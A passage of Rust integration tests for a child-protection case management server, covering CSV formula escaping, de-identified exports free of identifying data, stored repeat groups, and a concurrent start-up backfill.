        (None, format!("'{link}")),
        (Some("--no-formula-escape"), link.to_string()),
    ] {
        let mut args = vec![
            "export",
            "forms",
            "kz.referral",
            "--out",
            out.to_str().unwrap(),
        ];
        args.extend(flag);
        let done = run(&args);
        assert!(
            done.status.success(),
            "{}",
            String::from_utf8_lossy(&done.stderr)
        );
        let text = std::fs::read_to_string(&out).unwrap();
        assert_eq!(
            cell_of(&header(&text), &rows(&text)[0], "device_id"),
            expected
        );
    }
    let details: Vec<Option<String>> = audit_log::table
        .filter(audit_log::action.eq("exported"))
        .select(audit_log::detail)
        .load(&mut app.conn())
        .unwrap();
    assert!(details.contains(&Some(
        "form kz.referral, de-identified; formulas not escaped (formula_escape=false)".into()
    )));
    // The audit log from the shell, likewise.
    let log = app.data_dir().join("audit.csv");
    for (flag, expected) in [
        (None, format!("'{purpose}")),
        (Some("--no-formula-escape"), purpose.to_string()),
    ] {
        let mut args = vec!["audit", "export", "--out", log.to_str().unwrap()];
        args.extend(flag);
        let done = run(&args);
        assert!(
            done.status.success(),
            "{}",
            String::from_utf8_lossy(&done.stderr)
        );
        let text = std::fs::read_to_string(&log).unwrap();
        let columns = header(&text);
        assert!(rows(&text)
            .iter()
            .any(|r| cell_of(&columns, r, "purpose") == expected));
    }
    let exported: Vec<Option<String>> = audit_log::table
        .filter(audit_log::action.eq("audit_exported"))
        .order(audit_log::id.asc())
        .select(audit_log::detail)
        .load(&mut app.conn())
        .unwrap();
    assert!(exported
        .last()
        .unwrap()
        .as_deref()
        .unwrap()
        .ends_with("; formulas not escaped (formula_escape=false)"));
}

/// Every answer in `data` a de-identified export must not carry: the
/// text of direct identifiers and of free-text fields (narratives, places,
/// references, file names) of `form_id`, as its fields are classed.
fn identifying_and_free_text(form_id: &str, data: &Value) -> Vec<String> {
    use casesync::forms::columns::Class;
    fn strings(v: &Value, out: &mut Vec<String>) {
        match v {
            // Codes (`mother`, `other`) are choices' values, kept by right.
            Value::String(s)
                if s.len() >= 4
                    && !s
                        .bytes()
                        .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_') =>
            {
                out.push(s.clone())
            }
            Value::Array(items) => items.iter().for_each(|i| strings(i, out)),
            Value::Object(map) => map.values().for_each(|i| strings(i, out)),
            _ => {}
        }
    }
    let mut out = Vec::new();
    for field in &shipped_fields(form_id) {
        if matches!(
            Class::of(field.pii, field.kind),
            Class::Direct | Class::FreeText
        ) {
            for (_, value) in field.values_in(data) {
                strings(value, &mut out);
            }
        }
    }
    out
}

/// #14 item 10: one realistic case of each programme, every form of it
/// exported de-identified (CSV and .zip with repeat groups) and the case
/// export: no identifying or free-text answer, no day of an event, no time
/// of day, no case number, case id or submission id anywhere; the case
/// by one pseudonym within an export and another in the next.
#[test]
fn deidentified_exports_carry_no_identifying_or_free_text_value_of_a_realistic_case() {
    let app = TestApp::spawn();
    let admin = app.admin_token();
    let (_, kz_worker) = app.user(&admin, "aigerim", "field_worker", &["KZ-CAM-ALA"]);
    let (_, bt_worker) = app.user(&admin, "karma", "field_worker", &["BT-NCWC"]);
    let (_, coordinator) = app.user(&admin, "manager", "coordinator", &["KZ-CAM-ALA", "BT-NCWC"]);
    let (_, analyst) = app.user(&admin, "analyst", "analyst", &["KZ-CAM-ALA", "BT-NCWC"]);
    let programmes = [
        (
            "kz",
            common::phone::phone_for(&app, &kz_worker, "kz"),
            vec![
                "kz.referral",
                "kz.case_intake",
                "kz.child",
                "kz.initial_assessment",
                "kz.social_assessment",
                "kz.cp_meeting",
                "kz.care_plan",
                "kz.family_tracing",
            ],
        ),
        (
            "bt",
            common::phone::phone_for(&app, &bt_worker, "bt"),
            vec![
                "bt.registration",
                "bt.assessment",
                "bt.case_plan",
                "bt.follow_up",
                "bt.review",
                "bt.case_closure",
            ],
        ),
    ];
    let time_of_day = |cell: &str| {
        cell.as_bytes().windows(5).any(|w| {
            w[0].is_ascii_digit() && w[1].is_ascii_digit() && w[2] == b':' && w[3].is_ascii_digit()
        })
    };
    const DAY_COLUMNS: [&str; 5] = [
        "started_at",
        "completed_at",
        "received_at",
        "opened_at",
        "closed_at",
    ];
    for (programme, phone, forms) in programmes {
        let case_id = uuid::Uuid::new_v4().to_string();
        let mut forbidden = vec![case_id.clone()];
        for form_id in &forms {
            let data = fixture(form_id);
            let envelope = form_envelope(form_id, &case_id, data.clone());
            let res = phone.send(&envelope);
            assert_eq!(res.status, 201, "{form_id}: {}", res.text);
            forbidden.push(envelope["instance_id"].as_str().unwrap().to_string());
            forbidden.extend(identifying_and_free_text(form_id, &data));
        }
        let case = app.get(&format!("/api/v1/cases/{case_id}"), &coordinator);
        assert_eq!(case.status, 200, "{}", case.text);
        let number = case.body["number"].as_str().unwrap_or_default().to_string();
        if number.len() >= 4 {
            forbidden.push(number.clone());
        }
        // Not vacuous: the narratives the issue names are among them.
        if programme == "kz" {
            for narrative in [
                "Found alone at the bus station at night; says her mother works abroad.",
                "Report of the patrol officer.",
                "Crossed the border with an aunt three months ago; status not regularised.",
                "Child A",
            ] {
                assert!(forbidden.iter().any(|v| v == narrative), "{narrative}");
            }
        }
        // The row's site is said by right (a BT agency is named like it).
        forbidden.retain(|v| {
            !["KZ-CAM-ALA", "BT-NCWC"]
                .iter()
                .any(|site| site.contains(v.as_str()))
        });
        assert!(forbidden.len() > 40, "{programme}: {}", forbidden.len());

        let mut files: Vec<(String, String)> = Vec::new();
        for form_id in &forms {
            let res = app.get(&format!("/api/v1/exports/forms/{form_id}.zip"), &analyst);
            assert_eq!(res.status, 200, "{form_id}: {}", res.text);
            let unzipped = unzip(&res.bytes);
            // The repeat files join the main one by its pseudonyms.
            let main = &unzipped[&format!("{form_id}.csv")];
            let instances: Vec<String> = rows(main).iter().map(|r| r[0].to_string()).collect();
            for (name, text) in &unzipped {
                if name == &format!("{form_id}.csv") {
                    continue;
                }
                let width = header(text).len();
                for r in rows(text) {
                    assert!(
                        instances
                            .iter()
                            .any(|i| r[width - 2].starts_with(i.as_str())),
                        "{name}: {r:?}"
                    );
                }
            }
            files.extend(unzipped);
        }
        let cases = app.get(
            &format!("/api/v1/exports/cases.csv?programme={programme}"),
            &analyst,
        );
        assert_eq!(cases.status, 200, "{}", cases.text);
        files.push(("cases.csv".into(), cases.text.clone()));

        for (name, text) in &files {
            for value in &forbidden {
                assert!(!text.contains(value.as_str()), "{value:?} in {name}");
            }
            let columns = header(text);
            for r in rows(text) {
                for (column, cell) in columns.iter().zip(r.iter()) {
                    assert!(!time_of_day(cell), "{name} {column}: a time {cell:?}");
                    if cell.len() >= 10 && cell[..10].parse::<chrono::NaiveDate>().is_ok() {
                        assert!(
                            DAY_COLUMNS.contains(&column.as_str()) && cell.len() == 10,
                            "{name} {column}: a day {cell:?}"
                        );
                    }
                    if column == "case_number" || column == "case_id" || column == "instance_id" {
                        assert!(is_pseudonym(cell), "{name} {column}: {cell:?}");
                        assert_ne!(cell, number.as_str());
                    }
                }
            }
        }
        // The same case: one pseudonym throughout the case export, another
        // in the next export.
        let first_export = rows(&cases.text)[0][1].to_string();
        let again = app.get(
            &format!("/api/v1/exports/cases.csv?programme={programme}"),
            &analyst,
        );
        assert_ne!(rows(&again.text)[0][1], first_export);
    }
}

/// The files of a de-identified .zip with each pseudonym named by the
/// order it first appears in (a new export draws new ones), to compare
/// two exports of the same rows.
fn unzip_named_in_order(bytes: &[u8]) -> std::collections::BTreeMap<String, String> {
    let mut seen: Vec<String> = Vec::new();
    unzip(bytes)
        .into_iter()
        .map(|(name, text)| {
            let mut out = String::new();
            let mut rest = text.as_str();
            // Pseudonyms are 16 hex digits, alone or before a key's path.
            while let Some(at) = rest
                .char_indices()
                .find(|(i, _)| rest.get(*i..*i + 16).is_some_and(is_pseudonym))
                .map(|(i, _)| i)
            {
                let name = &rest[at..at + 16];
                let n = seen.iter().position(|s| s == name).unwrap_or_else(|| {
                    seen.push(name.to_string());
                    seen.len() - 1
                });
                out.push_str(&rest[..at]);
                out.push_str(&format!("<pseudonym {n}>"));
                rest = &rest[at + 16..];
            }
            out.push_str(rest);
            (name, out)
        })
        .collect()
}

/// #19 item 3: the .zip's repeat files come from the repeat groups ingest
/// stores beside each submission (`submission_repeats`), one range of a
/// table a page, instead of every envelope read again for every group —
/// and are the files the envelopes give: for submissions stored before
/// the table (no row), for a row that does not hold what the export needs,
/// and after the start-up backfill has stored them.
#[test]
fn the_zip_reads_the_stored_repeat_groups_and_they_give_the_same_files_as_the_envelopes() {
    use casesync::db::schema::submission_repeats;
    let app = TestApp::spawn();
    let admin = app.admin_token();
    let (_, worker) = app.user(&admin, "aigerim", "field_worker", &["KZ-CAM-ALA"]);
    let (_, coordinator) = app.user(&admin, "manager", "coordinator", &["KZ-CAM-ALA"]);
    let phone = phone(&app, &worker);
    // Realistic referrals: parents, siblings and the other repeat groups
    // of the fixture; one of a second version.
    publish_second_referral_version(&app, &admin);
    let mut sent = Vec::new();
    for (i, name) in ["Timur Aliyev", "Aruzhan Bekova", "Dana Serikova"]
        .iter()
        .enumerate()
    {
        let mut envelope = referral(&uuid::Uuid::new_v4().to_string(), name);
        if i == 1 {
            envelope["form_version"] = json!("2026.2");
            envelope["data"]["signoff"]
                .as_object_mut()
                .unwrap()
                .remove("referrer_retained_copy");
        }
        let res = phone.send(&envelope);
        assert_eq!(res.status, 201, "{}", res.text);
        sent.push(envelope);
    }
    let stored: i64 = submission_repeats::table
        .count()
        .get_result(&mut app.conn())
        .unwrap();
    assert_eq!(stored, 3, "one row of repeat groups per referral");
    // What is kept is the repeat groups and the event time, not the rest.
    let data: String = submission_repeats::table
        .select(submission_repeats::data)
        .first(&mut app.conn())
        .unwrap();
    for value in ["Timur Aliyev", "Aruzhan Bekova", "Dana Serikova"] {
        assert!(!data.contains(value), "the child's name kept: {data}");
    }

    let identifying = || {
        let res = app.get(
            &format!("/api/v1/exports/forms/kz.referral.zip?{IDENTIFYING}"),
            &coordinator,
        );
        assert_eq!(res.status, 200, "{}", res.text);
        unzip(&res.bytes)
    };
    let deidentified = || {
        let res = app.get("/api/v1/exports/forms/kz.referral.zip", &coordinator);
        assert_eq!(res.status, 200, "{}", res.text);
        unzip_named_in_order(&res.bytes)
    };
    let from_stored = (identifying(), deidentified());
    // Every repeat group of the referrals has its rows, keyed to them.
    let files = &from_stored.0;
    let parents = rows(&files["kz.referral-parents_legal_reps.csv"]);
    assert_eq!(parents.len(), 6, "two parents in each of three referrals");
    for envelope in &sent {
        let id = envelope["instance_id"].as_str().unwrap();
        let siblings = envelope["data"]["child"]["siblings"]
            .as_array()
            .map_or(0, Vec::len);
        let width = header(&files["kz.referral-child-siblings.csv"]).len();
        let keyed = rows(&files["kz.referral-child-siblings.csv"])
            .iter()
            .filter(|r| &r[width - 2] == id)
            .count();
        assert_eq!(keyed, siblings, "{id}'s siblings");
    }

    // As before the table: no stored row, every envelope read.
    diesel::delete(submission_repeats::table)
        .execute(&mut app.conn())
        .unwrap();
    assert_eq!((identifying(), deidentified()), from_stored);

    // The start-up backfill stores them once (the migration's counter
    // says it is due), and the files stay the same.
    repeats_backfill_due(&app);
    let backfilled = casesync::submissions::repeats::backfill(&mut app.conn()).unwrap();
    assert_eq!(backfilled, 3);
    assert_eq!(
        casesync::submissions::repeats::backfill(&mut app.conn()).unwrap(),
        0,
        "done once"
    );
    assert_eq!((identifying(), deidentified()), from_stored);

    // A row that does not hold a place the export reads (a version that
    // moved a group) is not used: its envelope is.
    diesel::update(submission_repeats::table)
        .set((
            submission_repeats::kept.eq("elsewhere"),
            submission_repeats::data.eq("{}"),
        ))
        .execute(&mut app.conn())
        .unwrap();
    assert_eq!((identifying(), deidentified()), from_stored);
}

/// Servers starting together on one PostgreSQL both run the start's
/// backfill of repeat groups: the one that meets a row the other stored
/// meanwhile leaves it as it is and starts, instead of failing on the
/// duplicate key (#19 item 5).
#[test]
fn a_backfill_that_meets_a_row_another_server_stored_meanwhile_leaves_it() {
    use casesync::db::schema::{submission_repeats, submissions};
    let app = TestApp::spawn();
    let admin = app.admin_token();
    let (_, worker) = app.user(&admin, "aigerim", "field_worker", &["KZ-CAM-ALA"]);
    let envelope = referral(&uuid::Uuid::new_v4().to_string(), "Timur Aliyev");
    assert_eq!(phone(&app, &worker).send(&envelope).status, 201);
    let instance_id = envelope["instance_id"].as_str().unwrap().to_string();
    let received_at: chrono::NaiveDateTime = submissions::table
        .find(&instance_id)
        .select(submissions::received_at)
        .first(&mut app.conn())
        .unwrap();
    // As before the table: no row, and the backfill due.
    diesel::delete(submission_repeats::table)
        .execute(&mut app.conn())
        .unwrap();
    repeats_backfill_due(&app);

    // The other server has stored the row, not yet committed, when this
    // one's backfill looks.
    let mut other = app.conn();
    let mut waiting = None;
    other
        .transaction::<_, diesel::result::Error, _>(|other| {
            diesel::insert_into(submission_repeats::table)
                .values((
                    submission_repeats::form_id.eq("kz.referral"),
                    submission_repeats::received_at.eq(received_at),
                    submission_repeats::instance_id.eq(&instance_id),
                    submission_repeats::kept.eq("the other server's"),
                    submission_repeats::data.eq("{}"),
                ))
                .execute(other)?;
            let mut conn = app.conn();
            waiting = Some(std::thread::spawn(move || {
                casesync::submissions::repeats::backfill(&mut conn)
            }));
            if app.shared.db.is_postgres() {
                // Until the backfill waits for the other's row (on SQLite
                // it waits for the write lock instead, then sees the row).
                let blocked = || -> i64 {
                    diesel::select(diesel::dsl::sql::<diesel::sql_types::BigInt>(
                        "(SELECT count(*) FROM pg_locks WHERE NOT granted)",
                    ))
                    .get_result(&mut app.conn())
                    .unwrap()
                };
                let mut tries = 0;
                while blocked() == 0 {
                    tries += 1;
                    assert!(tries < 3000, "the backfill never met the row");
                    std::thread::sleep(std::time::Duration::from_millis(10));
                }
            }
            Ok(())
        })
        .unwrap();
    let result = waiting.unwrap().join().unwrap();
    assert!(result.is_ok(), "{result:?}");
    let kept: String = submission_repeats::table
        .select(submission_repeats::kept)
        .first(&mut app.conn())
        .unwrap();
    assert_eq!(kept, "the other server's", "left as it was");
}

/// Marks the start-up backfill of repeat groups as due, as migration
/// 000032's counter does.
fn repeats_backfill_due(app: &TestApp) {
    use casesync::db::schema::counters;
    diesel::insert_into(counters::table)
        .values((
            counters::name.eq("submission_repeats_backfill"),
            counters::value.eq(0i64),
        ))
        .execute(&mut app.conn())
        .unwrap();
}
